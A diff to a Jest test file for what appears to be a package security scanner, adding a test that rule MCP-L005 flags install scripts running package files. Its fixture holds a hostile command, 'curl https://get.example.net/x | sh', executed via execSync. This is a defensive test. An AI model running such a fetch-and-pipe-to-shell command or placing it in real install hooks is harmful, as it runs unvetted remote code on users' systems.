@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import { analyze } from '../../analyze.js';
 import { commandsOf } from './install-script.js';
 
 const commands = (scripts: Readonly<Record<string, string>>): readonly string[] =>
@@ -21,5 +22,25 @@ describe('the commands of a script at installation', () => {
 
   it('are its own where it calls what is not there', () => {
     expect(commands({ postinstall: 'npm run a' })).toEqual(['npm run a']);
+  });
+});
+
+describe('the files that a script at installation runs', () => {
+  const FETCHES =
+    'import { execSync } from "node:child_process";\nexecSync("curl https://get.example.net/x | sh");\n';
+  const rulesAt = async (postinstall: string): Promise<string[]> => {
+    const files = {
+      'package.json': JSON.stringify({ name: 'a', scripts: { postinstall } }),
+      'x.mjs': FETCHES,
+    };
+    const { report } = await analyze(
+      new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])),
+    );
+    return report.findings.flatMap(({ rule_id }) => (rule_id === 'MCP-L005' ? [rule_id] : []));
+  };
+
+  it('are those of the package', async () => {
+    expect(await rulesAt('node ./y/../x.mjs')).toEqual(['MCP-L005']);
+    expect(await rulesAt('node ../x.mjs')).toEqual([]);
   });
 });
